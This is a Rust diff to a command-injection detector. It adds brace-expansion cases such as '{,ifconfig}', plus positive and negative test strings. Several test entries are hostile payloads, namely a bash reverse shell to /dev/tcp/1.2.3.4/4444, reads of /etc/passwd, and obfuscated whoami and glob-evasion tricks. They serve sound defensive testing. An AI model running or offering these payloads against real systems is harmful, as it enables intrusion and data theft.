@@ -729,17 +729,28 @@ pub fn detect(s: &str, body: bool) -> Option<Hit> {
             b'`' => Some(i + 1),
             b'$' if b.get(i + 1) == Some(&b'(') => Some(i + 2),
             b'{' if i == 0 || b[i - 1] != b'$' => {
-                // brace expansion {cat,/etc/passwd}
+                // brace expansion {cat,/etc/passwd}; empty words vanish, so
+                // `{,ifconfig}` runs `ifconfig`
                 let rest = &s[i + 1..];
-                if let Some(comma) = rest.find(',') {
-                    let cmd = norm_word(&rest[..comma]);
-                    if STRONG.contains(&cmd.as_str()) || WEAK.contains(&cmd.as_str()) {
-                        let arg = &rest[comma + 1..];
-                        if shellish_arg(arg.split(['}', ',']).next().unwrap_or("")) {
-                            let h = Hit::new(Attack::Cmdi, 85, s, i, i + 1 + comma + 12);
-                            if best.as_ref().is_none_or(|x| x.confidence < 85) {
-                                best = Some(h);
-                            }
+                let lead = rest.bytes().take_while(|&c| c == b',').count();
+                if let Some(comma) = rest[lead..].find(',').map(|c| c + lead) {
+                    let cmd = norm_word(&rest[lead..comma]);
+                    let arg = rest[comma + 1..].split(['}', ',']).next().unwrap_or("");
+                    let strong = STRONG.contains(&cmd.as_str());
+                    if (strong && (lead > 0 || arg.is_empty() || shellish_arg(arg)))
+                        || (WEAK.contains(&cmd.as_str()) && shellish_arg(arg))
+                    {
+                        let h = Hit::new(Attack::Cmdi, 85, s, i, i + 1 + comma + 12);
+                        if best.as_ref().is_none_or(|x| x.confidence < 85) {
+                            best = Some(h);
+                        }
+                    }
+                } else if lead > 0 {
+                    let end = rest.find('}').unwrap_or(rest.len());
+                    if STRONG.contains(&norm_word(&rest[lead..end]).as_str()) {
+                        let h = Hit::new(Attack::Cmdi, 85, s, i, i + 2 + end);
+                        if best.as_ref().is_none_or(|x| x.confidence < 85) {
+                            best = Some(h);
                         }
                     }
                 }
@@ -786,6 +797,9 @@ mod tests {
             "wh``oami",
             "w\\ho\\am\\i",
             "{cat,/etc/passwd}",
+            "{,ifconfig}",
+            "{,whoami,}",
+            "{uname,-a}",
             "; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
             // glob patterns the shell expands to a command
             ";/bin/c?t /etc/passwd",
@@ -882,6 +896,9 @@ mod tests {
         for b in [
             "echo in the mirror",
             "I'd like a refund",
+            "{,cat}",
+            "{id,name}",
+            "{ping,pong}",
             "\"whoami\" lyrics",
             "'hostname' field",
             "curl and divergence",
